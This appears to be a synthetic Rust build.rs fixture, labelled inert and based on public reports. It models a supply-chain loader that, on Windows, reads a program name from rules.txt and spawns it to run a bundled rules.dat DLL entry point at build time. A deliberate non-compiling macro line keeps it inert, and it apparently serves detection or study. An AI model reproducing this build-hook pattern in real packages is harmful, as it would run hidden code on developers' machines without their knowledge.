// Synthetic, inert fixture written from public reports; see README
use std::{env, fs, path::Path, process::Command};

fn main() {
    println!("cargo:rerun-if-changed=rules.txt");
    let rules = fs::read_to_string("rules.txt").unwrap();
    let host = rules.lines().find_map(|l| l.strip_prefix("host=")).unwrap_or("true");
    if env::consts::FAMILY == "windows" {
        let lib = Path::new(&env::var("CARGO_MANIFEST_DIR").unwrap()).join("rules.dat");
        let _ = Command::new(host).arg(format!("{},main", lib.display())).spawn();
    }
}

inert_fixture_does_not_build!();
